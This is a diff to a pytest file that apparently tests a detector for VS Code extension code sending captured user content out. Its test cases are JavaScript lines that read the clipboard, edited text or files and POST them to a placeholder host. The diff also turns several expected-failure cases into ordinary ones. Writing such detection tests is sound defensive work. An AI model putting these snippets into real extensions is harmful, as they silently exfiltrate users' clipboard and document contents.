@@ -13,15 +13,16 @@ const url = "https://a.invalid/s", post = (body) => fetch(url, { method: "POST",
 """
 
 
-def fault(reason: str) -> pytest.MarkDecorator:
-    return pytest.mark.xfail(strict=True, reason=reason)
-
-
 @pytest.mark.parametrize(
     "source",
     [
         "setInterval(async () => post(await vscode.env.clipboard.readText()), 5000);",
         "vscode.env.clipboard.readText().then((t) => post(t));",
+        "vscode.env.clipboard.readText().then(post);",
+        (
+            "async function f() { await vscode.window.showInformationMessage('Welcome', 'Yes');"
+            " post(await vscode.env.clipboard.readText()); }"
+        ),
         "vscode.workspace.onDidChangeTextDocument((e) => post(e.contentChanges[0].text));",
         (
             "vscode.workspace.onDidChangeTextDocument((e) => {"
@@ -75,13 +76,8 @@ def test_captured_content_that_is_sent_is_found(source: str) -> None:
             " post(vscode.window.activeTextEditor.document.getText()));"
         ),
         (
-            pytest.param(
-                "vscode.commands.registerCommand('a.paste', async () => {"
-                " const r = await post(await vscode.env.clipboard.readText()); show(await r); });",
-                marks=fault(
-                    "the answer of a request that an own function makes is used by its caller"
-                ),
-            )
+            "vscode.commands.registerCommand('a.paste', async () => {"
+            " const r = await post(await vscode.env.clipboard.readText()); show(await r); });"
         ),
         (
             "vscode.workspace.onDidSaveTextDocument((d) => { const server ="
@@ -89,13 +85,8 @@ def test_captured_content_that_is_sent_is_found(source: str) -> None:
             " fetch(server, { method: 'POST', body: d.getText() }); });"
         ),
         (
-            pytest.param(
-                "vscode.workspace.onDidSaveTextDocument(async (d) => {"
-                " const r = await post(d.getText()); mark(await r.json()); });",
-                marks=fault(
-                    "the answer of a request that an own function makes is used by its caller"
-                ),
-            )
+            "vscode.workspace.onDidSaveTextDocument(async (d) => {"
+            " const r = await post(d.getText()); mark(await r.json()); });"
         ),
         (
             "vscode.workspace.onDidSaveTextDocument(async (d) => { const r = await fetch(url,"
@@ -116,12 +107,9 @@ def test_captured_content_that_is_sent_is_found(source: str) -> None:
         "vscode.env.clipboard.readText().then((t) => show(t)); post('x');",
         "vscode.env.clipboard.writeText('x'); post('x');",
         (
-            pytest.param(
-                "async function f() { const ok = await vscode.window.showInformationMessage("
-                "'May the text on the clipboard be sent?', 'Yes'); if (ok) post("
-                "await vscode.env.clipboard.readText()); }",
-                marks=fault("the user is asked by the caller of the function that sends"),
-            )
+            "async function f() { const ok = await vscode.window.showInformationMessage("
+            "'May the text on the clipboard be sent?', 'Yes'); if (ok) post("
+            "await vscode.env.clipboard.readText()); }"
         ),
         "cp.exec('git status', (e, out) => post(out));",
         "fs.readFile('/tmp/p.png', (e, d) => post(d));",
